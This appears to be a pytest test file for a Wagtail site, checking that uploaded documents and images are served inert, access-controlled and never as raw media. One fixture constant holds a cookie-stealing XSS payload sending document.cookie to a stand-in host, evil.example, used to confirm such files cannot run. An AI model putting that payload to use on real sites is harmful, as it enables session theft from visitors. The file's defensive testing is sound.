"""Uploaded files reach visitors only through checked, inert downloads.

Documents are served by Wagtail's view, which applies the privacy of their collection, and
always as a download whose content cannot run as a page of the site. Original images are
never published: pages show renditions only, and no URL of the app serves MEDIA_ROOT (in
production nginx serves renditions from /media/images/ and nothing else from /media/).
"""

import io

from django.contrib.auth import get_user_model
from django.core.files.base import ContentFile
from django.core.files.images import ImageFile

from wagtail.documents import get_document_model
from wagtail.models import Collection, CollectionViewRestriction

import pytest
from bs4 import BeautifulSoup
from PIL import Image as PILImage

from images.models import CustomImage
from programmes.models import ProgrammePage
from tests.test_uploads import minimal_pdf

pytestmark = pytest.mark.django_db

Document = get_document_model()
SCRIPT = b"<html><body><script>document.location='https://evil.example/?'+document.cookie</script>"


@pytest.fixture(autouse=True)
def _remove_files():
    """The database forgets each test's documents and images; their files would stay."""
    created = []
    yield created
    for item in created:
        item.file.delete(save=False)


@pytest.fixture
def document(_remove_files):
    def make(name, content, collection=None):
        doc = Document.objects.create(
            title=name,
            file=ContentFile(content, name=name),
            collection=collection or Collection.get_first_root_node(),
        )
        _remove_files.append(doc)
        return doc

    return make


def download(client, doc):
    response = client.get(doc.url)
    if response.status_code == 200:
        response.body = b"".join(response.streaming_content)
    return response


def test_a_visitor_downloads_a_report_as_a_file_that_cannot_run_script(client, document):
    report = document("urban-leds-report.pdf", minimal_pdf())

    response = download(client, report)

    assert report.url.startswith("/documents/")  # Wagtail's view, not a file under /media/
    assert response.status_code == 200
    assert response.body == minimal_pdf()
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"].startswith("attachment;")  # a PDF too: it can hold JS
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Security-Policy"] == "default-src 'none'; sandbox"


@pytest.mark.parametrize(
    ("name", "content_type"),
    [("notes.txt", "text/plain"), ("figures.csv", "text/csv")],
)
def test_a_text_document_holding_a_web_page_is_served_inert(client, document, name, content_type):
    # Text passes the upload checks whatever it says; a browser must still never render it.
    response = download(client, document(name, SCRIPT))

    assert response.status_code == 200
    assert response["Content-Type"].startswith(content_type)
    assert response["Content-Disposition"].startswith("attachment;")
    assert response["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in response["Content-Security-Policy"]


@pytest.mark.parametrize("name", ["old-page.html", "logo.svg"])
def test_a_web_page_or_svg_stored_before_the_upload_checks_is_still_inert(client, document, name):
    response = download(client, document(name, SCRIPT))

    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment;")
    assert response["Content-Security-Policy"] == "default-src 'none'; sandbox"


def test_a_document_cannot_be_fetched_by_guessing_its_number(client, document):
    report = document("board-minutes.pdf", minimal_pdf())

    response = client.get(f"/documents/{report.pk}/report.pdf")

    assert response.status_code == 404


def test_a_document_in_a_private_collection_asks_visitors_to_log_in(client, document):
    internal = Collection.get_first_root_node().add_child(name="Internal")
    CollectionViewRestriction.objects.create(
        collection=internal, restriction_type=CollectionViewRestriction.LOGIN
    )
    minutes = document("board-minutes.pdf", minimal_pdf(), collection=internal)

    anonymous = client.get(minutes.url)
    client.force_login(get_user_model().objects.create_user("staff", password="x" * 16))
    staff = download(client, minutes)

    assert anonymous.status_code == 302
    assert "/login/" in anonymous["Location"]
    assert staff.status_code == 200
    assert staff.body == minimal_pdf()


def test_files_under_media_are_not_served_by_the_app(client, document):
    report = document("urban-leds-report.pdf", minimal_pdf())

    assert client.get(f"/media/{report.file.name}").status_code == 404


def test_pages_show_renditions_never_the_original_image(client, seeded_site, _remove_files):
    buffer = io.BytesIO()
    PILImage.new("RGB", (1600, 1000), "seagreen").save(buffer, "JPEG")
    image = CustomImage.objects.create(
        title="School roof",
        file=ImageFile(buffer, name="roof.jpg"),
        description_en="Solar panels on a school roof",
    )
    _remove_files.append(image)
    page = ProgrammePage.objects.get(url_path_en__endswith="/urban-leds/")
    page.image = image
    page.save()

    response = client.get("/en/programmes/urban-leds/")
    soup = BeautifulSoup(response.content, "html.parser")
    sources = [img["src"] for img in soup.find_all("img")] + [
        source["srcset"] for source in soup.find_all("source")
    ]

    assert image.file.name.startswith("original_images/")
    assert any("/media/images/roof" in src for src in sources)
    assert not any("original_images" in src for src in sources)
    assert client.get(image.file.url).status_code == 404
